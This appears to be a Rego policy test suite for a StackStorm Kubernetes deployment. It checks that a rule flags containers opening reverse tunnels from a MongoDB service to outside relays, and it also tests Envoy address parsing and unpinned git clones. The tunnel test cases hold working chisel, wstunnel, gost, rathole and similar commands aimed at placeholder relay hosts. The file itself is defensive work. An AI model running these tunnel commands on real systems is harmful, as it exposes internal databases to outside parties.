# The fourteenth red team's tunnels and Envoy relays (test/policy/redteam/fresh14-red14a.ts):
# reverse tunnels the agent list did not know (ST2-OPS-008) and Envoy's
# socket_address read as host:port (ST2-EXP-006's proxied hosts).
package st2_test.redteam14_red14a

import data.st2_test.fixtures as fx

rules_of(fs) := {f.rule | some f in fs}

prod(resources) := rules_of(fx.eval("production", resources))

relay(image, command) := {
	"apiVersion": "apps/v1",
	"kind": "Deployment",
	"metadata": {"name": "t", "namespace": fx.ns},
	"spec": {"replicas": 1, "selector": {"matchLabels": {"app": "t"}}, "template": {
		"metadata": {"labels": {"app": "t"}},
		"spec": {"containers": [{"name": "t", "image": image, "command": command, "resources": fx.container("x").resources}]},
	}},
}

mongo_service := fx.service("st2-mongodb", "ClusterIP", {"app": "mongodb"})

tunnel(image, command) := prod(array.concat(fx.baseline, [mongo_service, relay(image, command)]))

# --- ST2-OPS-008 ---------------------------------------------------------------------------------

test_reverse_tunnels_to_a_store_deny if {
	every case in [
		["jpillora/chisel:1.9.1", ["/app/bin", "client", "https://relay.example.net", "R:27017:st2-mongodb:27017"]],
		["alpine:3.20", ["sh", "-c", "chisel client relay.example.net:443 R:0.0.0.0:27017:st2-mongodb:27017"]],
		["ghcr.io/erebe/wstunnel:v10.1.0", ["wstunnel", "client", "-R", "tcp://0.0.0.0:27017:st2-mongodb:27017", "wss://relay.example.net"]],
		["gogost/gost:3.0.0", ["gost", "-L", "rtcp://:27017/st2-mongodb:27017", "-F", "relay+tls://203.0.113.9:8443"]],
		["ghcr.io/inlets/inlets-pro:0.9.28", ["inlets-pro", "tcp", "client", "--url", "wss://exit.example.net:8123", "--upstream", "st2-mongodb", "--port", "27017"]],
		["node:20-slim", ["npx", "-y", "localtunnel", "--port", "27017", "--local-host", "st2-mongodb"]],
		["node:20-slim", ["lt", "--port", "27017", "--local-host", "st2-mongodb"]],
		["python:3.11-slim", ["sh", "-c", "pagekite.py st2-mongodb:27017 db.pagekite.me"]],
		["rapiz1/rathole:v0.5.0", ["sh", "-c", "printf '[client]\\nremote_addr = \"relay.example.net:2333\"\\n[client.services.db]\\nlocal_addr = \"st2-mongodb:27017\"\\n' > /tmp/c.toml && rathole /tmp/c.toml"]],
	] {
		"ST2-OPS-008" in tunnel(case[0], case[1])
	}
}

# A reverse forward to a relay inside the cluster publishes nothing outside
# it; a local forward pulls an outside port in; a rathole server only receives.
test_in_cluster_relays_and_local_forwards_are_no_tunnel if {
	every case in [
		["jpillora/chisel:1.9.1", ["/app/bin", "client", "http://chisel.tools.svc.cluster.local:8080", "R:27017:st2-mongodb:27017"]],
		["ghcr.io/erebe/wstunnel:v10.1.0", ["wstunnel", "client", "-R", "tcp://0.0.0.0:27017:st2-mongodb:27017", "ws://wstunnel.tools.svc:8080"]],
		["gogost/gost:3.0.0", ["gost", "-L", "rtcp://:27017/st2-mongodb:27017", "-F", "relay://gost.tools.svc:8443"]],
		["jpillora/chisel:1.9.1", ["/app/bin", "client", "https://relay.example.net", "9100:metrics:9100"]],
		["rapiz1/rathole:v0.5.0", ["rathole", "--server", "/etc/rathole/server.toml"]],
	] {
		not "ST2-OPS-008" in tunnel(case[0], case[1])
	}
}

# "lt" is found as a program, never as two letters inside a script's words.
test_short_agent_names_are_no_needle if {
	not "ST2-OPS-008" in tunnel("alpine:3.20", ["sh", "-c", "echo default > /tmp/x; result 27017"])
}

# --- ST2-EXP-006: Envoy socket_address --------------------------------------------------------------

test_envoy_socket_address_hosts if {
	every case in [
		["- endpoint: {address: {socket_address: {address: st2-mongodb, port_value: 27017}}}\n", {"st2-mongodb:27017"}],
		["socket_address:\n  address: mongodb-0.mongodb\n  port_value: 27017\n", {"mongodb-0.mongodb:27017"}],
		["{\"socket_address\": {\"address\": \"rabbitmq\", \"port_value\": 5672}}", {"rabbitmq:5672"}],
		["address: {socket_address: {address: 0.0.0.0, port_value: 9000}}\n", {"0.0.0.0:9000"}],
		["address: st2api\nport: 9101\n", set()],
	] {
		data.st2.exposure.envoy_hosts(case[0]) == case[1]
	}
}

# --- ST2-SEC-024: an unpinned git clone where it fills st2's packs -----------------------------------

runner := fx.index_of(fx.baseline, "Deployment", "st2-st2actionrunner")

# The runner with an init container cloning into the packs volume (writable or read-only).
runner_with_init(read_only) := json.patch(fx.base("Deployment", "st2-st2actionrunner"), [
	{"op": "add", "path": "/spec/template/spec/volumes", "value": [{"name": "packs", "emptyDir": {}}]},
	{"op": "add", "path": "/spec/template/spec/containers/0/volumeMounts", "value": [{"name": "packs", "mountPath": "/opt/stackstorm/packs", "readOnly": true}]},
	{"op": "add", "path": "/spec/template/spec/initContainers", "value": [{"name": "clone", "image": "stackstorm/st2actionrunner:3.8.1", "resources": {"limits": {"cpu": "100m", "memory": "64Mi"}}, "securityContext": {"allowPrivilegeEscalation": false}, "volumeMounts": [{"name": "packs", "mountPath": "/opt/stackstorm/packs-shared", "readOnly": read_only}]}]},
])

clone_at(path) := {"resource": runner, "path": path, "program": "git", "effect": "install", "variable": "", "source": "git", "problem": "branch", "host": "github.com", "internal": false}

clone_rules(read_only, path) := {f.rule | some f in fx.eval_facts("production", fx.replace(fx.baseline, "Deployment", "st2-st2actionrunner", runner_with_init(read_only)), {"secret_values": [], "command_effects": [clone_at(path)]})}

init_path := ["spec", "template", "spec", "initContainers", 0]

test_unpinned_clone_into_the_packs_denies if {
	"ST2-SEC-024" in clone_rules(false, init_path)
	"ST2-SEC-024" in clone_rules(false, array.concat(init_path, ["lifecycle", "postStart", "exec", "command"]))
}

# A clone the container cannot write into the packs with, or from a container without them.
test_clones_elsewhere_pass if {
	not "ST2-SEC-024" in clone_rules(true, init_path)
	not "ST2-SEC-024" in clone_rules(false, ["spec", "template", "spec", "containers", 0])
}
